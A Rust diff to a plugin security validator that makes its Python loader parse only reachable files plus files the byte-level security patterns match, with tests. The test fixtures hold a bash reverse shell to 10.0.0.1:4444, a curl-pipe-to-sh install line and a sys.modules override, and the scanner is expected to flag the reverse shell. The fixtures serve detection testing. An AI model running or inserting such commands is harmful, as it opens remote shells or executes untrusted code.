@@ -1,17 +1,19 @@
-//! The Python sources of a package: every `.py` file, parsed (`syntax`), with module names
-//! and import resolution.
+//! The Python sources of a package: every `.py` file read, those that can run ([`reach`])
+//! parsed (`syntax`), with module names and import resolution.
 //!
 //! Module names are relative to the plugin package: the root `__init__.py` is `""`,
 //! `tools.py` is `tools`, `node/client.py` is `node.client`. Relative imports resolve against
 //! them; an absolute import is package-local when it names one of these modules, either
 //! directly (`import tools`) or through the plugin's own install path
 //! (`from plugins.google_meet.tools import x`, `from plugins.web.exa import provider`).
-//! Test code (`tests/`, `test/`, `test_*.py`, `*_test.py`, `conftest.py`) is parsed and
-//! flagged ([`PyModule::is_test`]): the security scan covers it like any other code, the
-//! pattern checks that exempt tests do so only where no package code imports it.
+//! Test code (`tests/`, `test/`, `test_*.py`, `*_test.py`, `conftest.py`) is flagged
+//! ([`PyModule::is_test`]) when parsed (something names it, or the byte-level patterns match
+//! it): the security scan covers it like any other code, the pattern checks that exempt tests
+//! do so only where no package code imports it.
 
 use std::collections::HashMap;
 
+use super::reach;
 use super::syntax::{Node, Tree};
 
 use crate::diag::{CheckId, Diagnostic};
@@ -265,6 +267,9 @@ pub struct SourceSet {
     pub modules: Vec<PyModule>,
     /// Python files that exist but were not analysed.
     pub unanalysed: Vec<Unanalysed>,
+    /// Python files, readable, that nothing runs ([`reach`]) and the byte-level security
+    /// patterns found nothing in: not parsed. Sorted by path.
+    pub unreached: Vec<String>,
     by_dotted: HashMap<String, usize>,
     /// The plugin directory's name (for `plugins.<dir>` absolute imports).
     dir_name: String,
@@ -288,21 +293,24 @@ pub fn is_test_path(rel: &str) -> bool {
 }
 
 impl SourceSet {
-    /// Parses every `.py` file of the package — test code, dot-directories and vendored
+    /// Reads every `.py` file of the package — test code, dot-directories and vendored
     /// directories included, at any depth (Python can import all of them) — from the
-    /// package's one tree walk. A file that cannot be read is an error in `out`; a file too
-    /// large to parse, or beyond the file cap, is listed in [`SourceSet::unanalysed`].
+    /// package's one tree walk, and parses those that can run ([`reach`]): the entries
+    /// (`entry`: the dotted entry-point module of a pip-distributed plugin, if any), what they
+    /// name, and any file the byte-level security patterns match. The others are listed in
+    /// [`SourceSet::unreached`]. A file that cannot be read is an error in `out`; a file too
+    /// large to parse, or beyond the file cap, is listed in [`SourceSet::unanalysed`]; when
+    /// one of those is reached, what it imports cannot be known and every file is parsed.
     ///
     /// Files are read and parsed on the cores nothing else uses, largest first (one plugin's
     /// own tests can be most of its code, and `validate .` of one plugin would otherwise use
     /// one core); modules, notes and errors come out in path order whatever the threads did.
-    pub fn load(root: &PackageRoot, out: &mut Vec<Diagnostic>) -> SourceSet {
+    pub fn load(root: &PackageRoot, entry: Option<&str>, out: &mut Vec<Diagnostic>) -> SourceSet {
         let dir_name = root
             .path()
             .file_name()
             .map(|n| n.to_string_lossy().into_owned())
             .unwrap_or_default();
-        let mut modules = Vec::new();
         let mut unanalysed = Vec::new();
         let files: Vec<_> = root
             .tree()
@@ -319,20 +327,45 @@ impl SourceSet {
             });
         }
         let files = &files[..files.len().min(MAX_FILES)];
-        let parsed = crate::parallel::map(
+        let mut texts: Vec<Option<String>> = Vec::with_capacity(files.len());
+        let read = crate::parallel::map(
             files,
             crate::parallel::spare_cores(),
             Some(crate::parallel::largest_first(files, |e| e.size)),
-            |entry| parse_file(&entry.rel, &entry.path),
+            |entry| read_file(&entry.rel, &entry.path),
         );
-        for outcome in parsed {
+        for outcome in read {
             match outcome {
-                Parsed::Module(module) => modules.push(*module),
-                Parsed::Skipped(skipped) => unanalysed.push(skipped),
-                Parsed::Unreadable(error, skipped) => {
+                Read::Text(text) => texts.push(Some(text)),
+                Read::Skipped(skipped) => {
+                    unanalysed.push(skipped);
+                    texts.push(None);
+                }
+                Read::Unreadable(error, skipped) => {
                     out.push(*error);
                     unanalysed.push(skipped);
+                    texts.push(None);
                 }
+            }
+        }
+        let parsed = parse_reached(root, entry, files, &texts);
+        let mut modules = Vec::new();
+        let mut unreached = Vec::new();
+        for ((file, tree), text) in files.iter().zip(parsed).zip(texts) {
+            match (tree, text) {
+                (Some(tree), Some(text)) => {
+                    let (dotted, is_package) = module_name(&file.rel);
+                    modules.push(PyModule {
+                        is_test: is_test_path(&file.rel),
+                        rel: file.rel.clone(),
+                        dotted,
+                        is_package,
+                        text,
+                        tree,
+                    });
+                }
+                (None, Some(_)) => unreached.push(file.rel.clone()),
+                _ => {}
             }
         }
         let by_dotted = modules
@@ -345,6 +378,7 @@ impl SourceSet {
             by_dotted,
             dir_name,
             unanalysed,
+            unreached,
         }
     }
 
@@ -410,26 +444,24 @@ impl SourceSet {
     }
 }
 
-/// What became of one `.py` file.
-enum Parsed {
-    Module(Box<PyModule>),
+/// What became of reading one `.py` file.
+enum Read {
+    Text(String),
     /// Too large.
     Skipped(Unanalysed),
     /// Unreadable: an error for the report, and not analysed.
     Unreadable(Box<Diagnostic>, Unanalysed),
 }
 
-/// Reads and parses one file (`rel` within the package, at `path`).
-fn parse_file(rel: &str, path: &std::path::Path) -> Parsed {
+/// Reads one file (`rel` within the package, at `path`).
+fn read_file(rel: &str, path: &std::path::Path) -> Read {
     let rel = rel.to_string();
-    let text = match read_limited_text(path, MAX_FILE) {
-        Ok(t) => t,
-        Err(ReadError::TooLarge { size, limit }) => {
-            return Parsed::Skipped(Unanalysed {
-                rel,
-                reason: format!("{size} bytes is more than the {limit} analysed"),
-            });
-        }
+    match read_limited_text(path, MAX_FILE) {
+        Ok(t) => Read::Text(t),
+        Err(ReadError::TooLarge { size, limit }) => Read::Skipped(Unanalysed {
+            rel,
+            reason: format!("{size} bytes is more than the {limit} analysed"),
+        }),
         Err(e) => {
             let mut d = Diagnostic::error(
                 CheckId::SecurityScan,
@@ -441,25 +473,152 @@ fn parse_file(rel: &str, path: &std::path::Path) -> Parsed {
             if let Some(v) = e.value() {
                 d = d.value(v);
             }
-            return Parsed::Unreadable(
+            Read::Unreadable(
                 Box::new(d),
                 Unanalysed {
                     rel,
                     reason: format!("it {e}"),
                 },
-            );
+            )
+        }
+    }
+}
+
+/// Most bytes of one declaration file whose words are searched for module names; past it,
+/// what the file names is not known and every module is parsed.
+const MAX_DECLARATION: u64 = 16 * 1024 * 1024;
+
+/// Parses the files that can run ([`reach`]), in rounds: the entries and what the
+/// declarations name, then what each round's files name, until nothing new is reached; then
+/// every other readable file the byte-level security patterns match, and what those name.
+/// Returns a tree for each parsed file, in the order of `files`.
+fn parse_reached(
+    root: &PackageRoot,
+    entry: Option<&str>,
+    files: &[&crate::pkgfs::TreeEntry],
+    texts: &[Option<String>],
+) -> Vec<Option<Tree>> {
+    let names = reach::Names::new(files.iter().map(|f| f.rel.as_str()));
+    let by_rel: HashMap<&str, usize> = files
+        .iter()
+        .enumerate()
+        .map(|(i, f)| (f.rel.as_str(), i))
+        .collect();
+    let mut reached = vec![false; files.len()];
+    let mut frontier = Vec::new();
+    let mut everything = false;
+    let reach_file = |i: usize, reached: &mut Vec<bool>, frontier: &mut Vec<usize>| {
+        for at in std::iter::once(files[i].rel.clone()).chain(reach::parent_inits(&files[i].rel)) {
+            if let Some(&j) = by_rel.get(at.as_str())
+                && !reached[j]
+            {
+                reached[j] = true;
+                frontier.push(j);
+            }
         }
     };
-    let tree = Tree::parse(&text);
-    let (dotted, is_package) = module_name(&rel);
-    Parsed::Module(Box::new(PyModule {
-        is_test: is_test_path(&rel),
-        rel,
-        dotted,
-        is_package,
-        text,
-        tree,
-    }))
+    for i in names.unnamed.iter().copied() {
+        reach_file(i, &mut reached, &mut frontier);
+    }
+    for (i, file) in files.iter().enumerate() {
+        if reach::is_entry(&file.rel) || entry.is_some_and(|e| module_name(&file.rel).0 == e) {
+            reach_file(i, &mut reached, &mut frontier);
+        }
+    }
+    for declaration in root.tree().entries.iter().filter(|e| {
+        e.kind == crate::pkgfs::Kind::File
+            && !e.rel.ends_with(".py")
+            && reach::is_declaration(&e.rel)
+    }) {
+        match crate::pkgfs::read_limited(&declaration.path, MAX_DECLARATION) {
+            Ok(bytes) => names.named_in(&bytes, |i| reach_file(i, &mut reached, &mut frontier)),
+            Err(_) => everything = true,
+        }
+    }
+    let mut trees: Vec<Option<Tree>> = (0..files.len()).map(|_| None).collect();
+    let mut filtered = false;
+    loop {
+        if everything {
+            for i in 0..files.len() {
+                reach_file(i, &mut reached, &mut frontier);
+            }
+        }
+        while !frontier.is_empty() {
+            let batch = std::mem::take(&mut frontier);
+            // A reached file that cannot be read hides what it imports.
+            if batch.iter().any(|i| texts[*i].is_none()) && !everything {
+                everything = true;
+                frontier = batch;
+                for i in 0..files.len() {
+                    reach_file(i, &mut reached, &mut frontier);
+                }
+                continue;
+            }
+            let done = crate::parallel::map(
+                &batch,
+                crate::parallel::spare_cores(),
+                Some(crate::parallel::largest_first(&batch, |i| files[*i].size)),
+                |i| {
+                    let text = texts[*i].as_deref()?;
+                    let mut named = Vec::new();
+                    if !everything {
+                        names.named_in(text.as_bytes(), |j| named.push(j));
+                    }
+                    Some((Tree::parse(text), named))
+                },
+            );
+            for (i, outcome) in batch.into_iter().zip(done) {
+                if let Some((tree, named)) = outcome {
+                    trees[i] = Some(tree);
+                    for j in named {
+                        reach_file(j, &mut reached, &mut frontier);
+                    }
+                }
+            }
+        }
+        if filtered || everything {
+            break;
+        }
+        tracing::debug!(
+            "{}: {} of {} Python files reached",
+            root.path().display(),
+            reached.iter().filter(|r| **r).count(),
+            files.len()
+        );
+        // What nothing runs is still read: a file the byte-level patterns match is analysed
+        // like a reached one, so what is reported there has the analysis's precision.
+        filtered = true;
+        let rest: Vec<usize> = (0..files.len())
+            .filter(|i| !reached[*i] && texts[*i].is_some())
+            .collect();
+        let matched = crate::parallel::map(
+            &rest,
+            crate::parallel::spare_cores(),
+            Some(crate::parallel::largest_first(&rest, |i| files[*i].size)),
+            |i| {
+                texts[*i]
+                    .as_deref()
+                    .is_some_and(super::security::byte_patterns_match)
+            },
+        );
+        for (i, matched) in rest.into_iter().zip(matched) {
+            if matched {
+                reach_file(i, &mut reached, &mut frontier);
+            }
+        }
+    }
+    tracing::debug!(
+        "{}: {} of {} Python files parsed{}",
+        root.path().display(),
+        trees.iter().filter(|t| t.is_some()).count(),
+        files.len(),
+        if everything {
+            " (every file: a reached file or a declaration could not be read)"
+        } else {
+            ""
+        }
+    );
+    trees
 }
 
 fn module_name(rel: &str) -> (String, bool) {
@@ -499,10 +658,12 @@ mod tests {
     fn parallel_parse_keeps_path_order() {
         let dir = tempfile::tempdir().unwrap();
         let mut expected = Vec::new();
+        // Skill scripts, so that every one is an entry and parsed.
+        std::fs::create_dir_all(dir.path().join("skills/s")).unwrap();
         for i in 0..40 {
             // Sizes that do not follow the names, so largest-first is not path order.
             let body = "x = 1\n".repeat((i * 7919) % 97 + 1);
-            let rel = format!("m{i:02}.py");
+            let rel = format!("skills/s/m{i:02}.py");
             std::fs::write(dir.path().join(&rel), body).unwrap();
             expected.push(rel);
         }
@@ -512,7 +673,7 @@ mod tests {
         std::fs::write(dir.path().join("m03b.py"), big).unwrap();
         let root = PackageRoot::open(dir.path()).unwrap();
         let mut errors = Vec::new();
-        let set = SourceSet::load(&root, &mut errors);
+        let set = SourceSet::load(&root, None, &mut errors);
         let rels: Vec<&str> = set.modules.iter().map(|m| m.rel.as_str()).collect();
         assert_eq!(rels, expected);
         let skipped: Vec<&str> = set.unanalysed.iter().map(|u| u.rel.as_str()).collect();
@@ -520,7 +681,7 @@ mod tests {
         let files: Vec<&str> = errors.iter().map(|d| d.file.as_str()).collect();
         assert_eq!(files, ["m05b.py", "m07b.py"]);
         for (i, m) in set.modules.iter().enumerate() {
-            assert_eq!(m.dotted, format!("m{i:02}"));
+            assert_eq!(m.dotted, format!("skills.s.m{i:02}"));
             assert!(!m.tree.has_error(), "{}", m.rel);
         }
     }
@@ -553,6 +714,136 @@ mod tests {
                 (5, "    2)")
             ]
         );
+    }
+
+    fn package(files: &[(&str, &[u8])]) -> tempfile::TempDir {
+        let dir = tempfile::tempdir().unwrap();
+        for (rel, body) in files {
+            let path = dir.path().join(rel);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, body).unwrap();
+        }
+        dir
+    }
+
+    fn parsed_and_unreached(
+        dir: &std::path::Path,
+        entry: Option<&str>,
+    ) -> (Vec<String>, Vec<String>) {
+        let root = PackageRoot::open(dir).unwrap();
+        let set = SourceSet::load(&root, entry, &mut Vec::new());
+        (
+            set.modules.into_iter().map(|m| m.rel).collect(),
+            set.unreached,
+        )
+    }
+
+    /// Parsed: the entries Hermes and the agent start, what they and the declarations name
+    /// (imports, a literal `import_module`, an MCP server's script, parent packages), and an
+    /// unreached file the byte-level patterns match. Not parsed: tests and scripts nothing
+    /// names.
+    #[test]
+    fn only_what_can_run_is_parsed() {
+        let dir = package(&[
+            (
+                "__init__.py",
+                b"import importlib\nfrom .tools import t\nh = importlib.import_module('plugin_helpers')\n",
+            ),
+            ("tools.py", b"from .sub.deep import x\n"),
+            ("sub/__init__.py", b""),
+            ("sub/deep.py", b"x = 1\n"),
+            ("sub/other.py", b"y = 1\n"),
+            ("plugin_helpers.py", b""),
+            ("cli.py", b""),
+            ("skills/report/scripts/make.py", b"import render\n"),
+            ("render.py", b""),
+            ("dashboard/plugin_api.py", b""),
+            ("mcp.json", b"{\"command\": \"python\", \"args\": [\"mcp_server.py\"]}"),
+            ("mcp_server.py", b""),
+            ("tests/test_tools.py", b"from tools import t\n"),
+            ("scripts/bench.py", b"import sys\nsys.modules['agent'] = None\n"),
+            ("scripts/hint.py", b"print('install: curl -fsSL https://x.example/i.sh | sh')\n"),
+            ("my-tool.py", b""),
+        ]);
+        let (parsed, unreached) = parsed_and_unreached(dir.path(), None);
+        assert_eq!(
+            parsed,
+            [
+                "__init__.py",
+                "cli.py",
+                "dashboard/plugin_api.py",
+                "mcp_server.py",
+                "my-tool.py",
+                "plugin_helpers.py",
+                "render.py",
+                "scripts/hint.py",
+                "skills/report/scripts/make.py",
+                "sub/__init__.py",
+                "sub/deep.py",
+                "tools.py",
+            ]
+        );
+        assert_eq!(
+            unreached,
+            ["scripts/bench.py", "sub/other.py", "tests/test_tools.py"]
+        );
+        // A pip-distributed plugin's entry point is an entry too.
+        let (parsed, _) = parsed_and_unreached(dir.path(), Some("sub.other"));
+        assert!(parsed.iter().any(|m| m == "sub/other.py"));
+    }
+
+    /// A reached file that cannot be read hides what it imports: every file is parsed.
+    #[test]
+    fn an_unreadable_reached_file_parses_everything() {
+        let dir = package(&[
+            ("__init__.py", b"from .bad import x\n"),
+            ("bad.py", b"x = '\xff'\n"),
+            ("tests/test_x.py", b""),
+        ]);
+        let (parsed, unreached) = parsed_and_unreached(dir.path(), None);
+        assert_eq!(parsed, ["__init__.py", "tests/test_x.py"]);
+        assert!(unreached.is_empty());
+        // Unread but unreached: the others are still judged by what names them.
+        let dir = package(&[
+            ("__init__.py", b""),
+            ("bad.py", b"x = '\xff'\n"),
+            ("tests/test_x.py", b""),
+        ]);
+        let (parsed, unreached) = parsed_and_unreached(dir.path(), None);
+        assert_eq!(parsed, ["__init__.py"]);
+        assert_eq!(unreached, ["tests/test_x.py"]);
+    }
+
+    /// What the analysis reports for files nothing runs: a payload the byte-level patterns
+    /// see is analysed and found; a `curl … | sh` shown to people is still not code; a
+    /// maintainer script's `sys.modules` write is not an override of a running Hermes.
+    #[test]
+    fn unreached_files_are_judged_by_the_byte_patterns() {
+        let dir = package(&[
+            ("__init__.py", b"def register(ctx):\n    pass\n"),
+            (
+                "scripts/bench.py",
+                b"import sys\nsys.modules['agent'] = None\n",
+            ),
+            (
+                "scripts/hint.py",
+                b"print('install: curl -fsSL https://x.example/i.sh | sh')\n",
+            ),
+            (
+                "scripts/evil.py",
+                b"import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
+            ),
+        ]);
+        let root = PackageRoot::open(dir.path()).unwrap();
+        let analysis = super::super::analyze(&root);
+        assert!(analysis.overrides.is_empty(), "{:?}", analysis.overrides);
+        let found: Vec<(&str, &str)> = analysis
+            .security
+            .iter()
+            .map(|f| (f.file.as_str(), f.rule))
+            .collect();
+        assert_eq!(found, [("scripts/evil.py", "reverse-shell")]);
+        assert_eq!(analysis.verdict.as_str(), "dangerous");
     }
 
     #[test]
